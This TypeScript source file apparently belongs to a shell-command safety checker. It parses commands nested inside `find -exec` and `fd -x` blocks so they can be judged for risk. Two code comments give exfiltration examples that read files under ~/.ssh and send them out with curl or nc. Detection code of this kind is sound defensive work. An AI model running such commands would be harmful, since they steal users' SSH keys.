/** Commands given as a block of another command's words: `find -exec ... ;`, `fd -x ...`. */

import type { Facts, SimpleCommand, Word } from "../../facts/types.js";
import type { CommandView } from "../command.js";
import { inheritFrom, type Inherit, type Nest, type Origin, type Quiet, type UnwrapCommand, type UnwrapResult, type Unwrapper } from "./types.js";
import { DYNAMIC_WORD, holdsToken, partHolds } from "./words.js";
import { valuesQuiet } from "./value-uses.js";
import { foundPaths, foundQuiet } from "./found-files.js";
import { stagesOf } from "./pipelines.js";
import { inertText, replacedIn } from "./inert.js";

export const execBlockUnwrapper: Unwrapper = {
  name: "exec-block",
  commands: ["find", "fd", "fdfind"],
  unwrap: (v, e) => execBlocks(v, e.sc, e.facts, e.origin, e.out, e.nest, e.unwrapCommand),
};

const FIND_EXEC: ReadonlySet<string> = new Set(["-exec", "-execdir", "-ok", "-okdir"]);
const FD_EXEC: ReadonlySet<string> = new Set(["-x", "--exec", "-X", "--exec-batch"]);
/** fd's placeholders: `{}`, `{/}`, `{//}`, `{.}`, `{/.}`. */
const FD_PLACEHOLDER = /\{(?:|\/|\/\/|\.|\/\.)\}/;

/**
 * `find ... -exec cmd {} ;` and `fd ... -x cmd`: each command becomes a view of its own, seen
 * through wrappers and shell strings like any other, with the file names ({}) dynamic.
 */
function execBlocks(view: CommandView, sc: SimpleCommand, facts: Facts, origin: Origin, out: UnwrapResult, nest: Nest,
  unwrapCommand: UnwrapCommand): void {
  const w = view.words;
  const isFind = view.name === "find";
  const starts = isFind ? FIND_EXEC : FD_EXEC;
  const placeholder = isFind ? (x: Word) => holdsToken(x, "{}") : (x: Word) => partHolds(x, (text) => FD_PLACEHOLDER.test(text));
  for (let k = 1; k < w.length; k++) {
    const a = (w[k] as Word).value;
    const attached = starts.has(a) ? "" : isFind ? null : fdExecAttached(a);
    if (attached === null) continue;
    let end = k + 1;
    while (end < w.length && (w[end] as Word).value !== ";" && !(isFind && (w[end] as Word).value === "+")) end++;
    const words = attached === "" ? w.slice(k + 1, end) : [{ ...(w[k] as Word), value: attached }, ...w.slice(k + 1, end)];
    const inner = words.map((x) => (placeholder(x) ? DYNAMIC_WORD(x.start, x.end, x.value) : x));
    if (inner.length > 0) {
      const execOrigin: Origin = { ...origin, ...inheritFrom(view), argsUnknown: true, wrappers: [...view.wrappers, view.name] };
      unwrapCommand({ ...sc, argv: inner, redirects: [] }, inner, facts, execOrigin, out, nest);
      if (isFind && attached === "" && inner !== words) withFoundFiles(sc, view, words, facts, { ...execOrigin, argsUnknown: false }, nest, origin.range ?? [sc.start, sc.end]);
    }
    k = end;
  }
}

/**
 * fd's exec option spelled in a cluster or with its value attached: `-Hx rm`, `-xrm`, `--exec=rm`.
 * Returns the attached command word ("" when the command starts at the next word), or null.
 */
function fdExecAttached(a: string): string | null {
  const m = /^-[HIsiglLpaFu01q]*[xX](.*)$|^--exec(?:-batch)?=(.+)$/.exec(a);
  return m === null ? null : (m[1] ?? m[2] ?? "");
}

/** The find check judges deletes by their start directories and tests; a file put for {} is a guess about which. */
const foundFilesQuiet: Quiet = (id) => valuesQuiet(id) || id.startsWith("deletion/");

/**
 * `find ~/.ssh -exec curl -F f=@{} URL ;`: the block is also parsed with each path find may hand
 * it written in (found-files.ts), so what it does to them is judged like the same command on
 * those files (a secret sent, an rc file overwritten). A pipeline after find reads the block's
 * output (`find ~/.ssh -exec cat {} + | nc h 1`): it comes along.
 */
function withFoundFiles(sc: SimpleCommand, view: CommandView, block: readonly Word[], facts: Facts, inherit: Inherit, nest: Nest, range: [number, number]): void {
  const after = sc.stage >= 0 ? stagesOf(facts, sc.pipeline).filter((c) => c.stage > sc.stage).map((c) => ` | ${inertText(facts, c.start, c.end)}`).join("") : "";
  for (const path of foundPaths(view.words, facts)) {
    const text = block.map((x) => (holdsToken(x, "{}") ? replacedIn(x, "{}", path.text) : inertText(facts, x.start, x.end))).join(" ");
    nest(text + after, range, { ...inherit, speculative: foundQuiet(foundFilesQuiet, path) });
  }
}
